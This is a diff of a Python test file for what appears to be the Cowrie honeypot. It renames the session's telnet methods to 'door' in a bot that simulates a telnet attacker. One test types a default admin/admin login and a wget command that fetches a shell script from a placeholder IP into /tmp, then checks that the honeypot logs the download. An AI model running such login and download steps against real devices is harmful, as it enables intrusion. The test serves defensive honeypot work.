@@ -50,7 +50,7 @@ class Bot:
         TelnetConnection(self.session, clock=self.clock).makeConnection(self.t)
         self.character_mode = character_mode
         if character_mode:
-            self.session.telnet.dataReceived(b"\xff\xfd\x01\xff\xfd\x03")  # DO ECHO, DO SGA
+            self.session.door.dataReceived(b"\xff\xfd\x01\xff\xfd\x03")  # DO ECHO, DO SGA
             assert self.session.editor.character_mode
         self.t.clear()
         self.seen = b"login: "  # the prompt the bot answers first is on its screen
@@ -59,10 +59,10 @@ class Bot:
         """Type a line, as its own terminal shows it, and read the answer."""
         self.clock.advance(0.25)
         if self.character_mode:  # the server echoes
-            self.session.telnet.dataReceived(line.encode() + b"\r\n")
+            self.session.door.dataReceived(line.encode() + b"\r\n")
         else:
             self.seen += line.encode() + b"\r\n"
-            self.session.telnet_data(line.encode() + b"\r\n")
+            self.session.door_data(line.encode() + b"\r\n")
         self.clock.pump([PACE] * 300)  # a long answer is paced out: let it all go
         self.seen += screen_bytes(self.t.value())
         self.t.clear()
@@ -107,7 +107,7 @@ def test_a_download_target_left_behind_is_kept_at_the_end_with_its_url(tmp_path:
     for line in ["admin", "admin", "cd /tmp", "echo -ne '#!/bin/sh\\n' > x.sh",
                  "wget http://203.0.113.50/x.sh -O x.sh"]:
         bot.type(line)
-    bot.session.telnet_lost("gone")
+    bot.session.door_lost("gone")
     attempt, saved = bot.of("cowrie.session.file_download")
     assert "shasum" not in attempt and attempt["outfile"] == "/tmp/x.sh"
     assert saved["url"] == "http://203.0.113.50/x.sh" and saved["trigger"] == "end"
